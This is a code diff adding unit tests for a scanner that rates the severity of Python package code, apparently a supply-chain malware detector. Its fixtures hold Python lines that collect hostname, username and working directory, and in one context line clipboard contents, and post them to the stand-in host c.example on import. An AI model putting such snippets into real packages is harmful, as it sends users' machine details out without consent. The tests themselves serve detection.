@@ -79,6 +79,29 @@ TEST(PackageFlow, ClassThatGathers) {
                                       "requests.post('https://c.example/c', data=Clip().get())\n"}}),
             "critical");
 }
+const char kFacts[] =
+    "import socket, getpass, os\n"
+    "def facts():\n    return {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()}\n";
+TEST(PackageFlow, HostFactsSentAsThePackageLoads) {
+  EXPECT_EQ(Severity({{"info.py", kFacts},
+                      {"__init__.py", "import requests\nfrom .info import facts\n"
+                                      "requests.post('https://c.example/b', json=facts())\n"}}),
+            "critical");
+}
+TEST(PackageFlow, HostFactsSentLaterAreTelemetry) {
+  EXPECT_EQ(Severity({{"info.py", kFacts},
+                      {"__init__.py", "import requests\nfrom .info import facts\n"
+                                      "def report():\n"
+                                      "    requests.post('https://c.example/b', json=facts())\n"}}),
+            "none");
+}
+TEST(PackageFlow, OneHostFactIsNotGathering) {
+  EXPECT_EQ(Severity({{"info.py", "import socket, os\ndef facts():\n"
+                                  "    return {'h': socket.gethostname(), 'd': os.getcwd()}\n"},
+                      {"__init__.py", "import requests\nfrom .info import facts\n"
+                                      "requests.post('https://c.example/b', json=facts())\n"}}),
+            "none");
+}
 TEST(PackageFlow, OneApiKeyFromTheEnvironmentIsNotGathering) {
   EXPECT_EQ(Severity({{"conf.py", kApiKey},
                       {"__init__.py", "import requests\nfrom .conf import key\n"
